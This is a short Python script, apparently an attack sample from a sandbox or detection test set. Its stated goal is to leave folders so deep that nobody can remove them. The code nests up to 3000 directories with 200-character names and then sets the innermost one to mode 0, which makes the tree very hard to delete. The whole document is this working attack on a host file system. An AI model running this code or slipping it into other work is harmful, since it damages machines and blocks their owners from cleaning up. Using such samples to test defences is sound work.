# goal: leave folders so deep that nobody can remove them
# seen: nothing
# within_s: 15
import os

try:
    for _ in range(3000):
        os.mkdir("chainrule-attack-" + "d" * 200)
        os.chdir("chainrule-attack-" + "d" * 200)
    os.chmod(".", 0)
except OSError as error:
    print(error)
